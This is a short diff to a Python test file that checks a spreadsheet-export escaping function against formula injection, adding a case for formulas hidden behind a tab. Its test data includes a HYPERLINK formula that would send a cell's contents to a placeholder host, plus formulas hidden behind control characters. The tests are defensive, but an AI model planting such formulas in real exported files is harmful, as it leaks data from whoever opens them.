@@ -19,12 +19,17 @@ from tests.domain.digests.test_render import long_week
 # Nothing here depends on the database: the PostgreSQL pass of scripts/test skips it.
 pytestmark = pytest.mark.database_independent
 
-FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"hi")', "+1+1", "-2+3", "@SUM(A1)", "\r=1"]
 
 
 @pytest.mark.parametrize("typed", FORMULAS)
 def test_a_cell_a_spreadsheet_would_run_is_shown_as_text(typed: str) -> None:
     assert cell(typed) == "'" + typed
+
+
+def test_a_formula_behind_a_tab_is_text_where_the_tab_splits_cells() -> None:
+    """LibreOffice with tab ticked as a separator reads `=1` as a cell of its own."""
+    assert cell("\t=1") == "'\t'=1"
 
 
 @pytest.mark.parametrize("value", ["thanks for =all", "R&D", "", 7, -3, 2.5, True])
